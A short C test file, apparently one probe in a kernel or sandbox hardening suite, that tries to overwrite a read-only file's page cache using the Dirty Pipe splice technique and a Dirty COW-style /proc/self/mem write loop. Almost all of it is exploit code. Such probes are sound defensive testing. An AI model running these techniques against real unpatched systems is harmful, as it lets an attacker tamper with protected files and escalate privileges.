/* Write into the page cache of a read-only file through a pipe (dirty pipe) and through /proc/self/mem. */
// aims: secret
// control: none (kernels have closed both)
#include "attack.h"

int main(void) {
  const char *path = target("DESTROYER");
  int file = open(path, O_RDONLY), ends[2];
  static char filler[4096];
  if (file < 0 || pipe(ends)) cannot("nothing to open");
  tried();
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= sizeof filler) write(ends[1], filler, sizeof filler);
  for (int left = size; left > 0; left -= sizeof filler) read(ends[0], filler, sizeof filler);
  off_t at = 0;
  splice(file, &at, ends[1], 0, 1, 0), write(ends[1], "DIRTY", 5);
  char *mapped = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  for (int round = 0; round < 2000; round++) madvise(mapped, 4096, MADV_DONTNEED), pwrite(memory, "DIRTY", 5, (off_t)mapped);
  mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0), mprotect(mapped, 4096, PROT_WRITE);
  return 0;
}
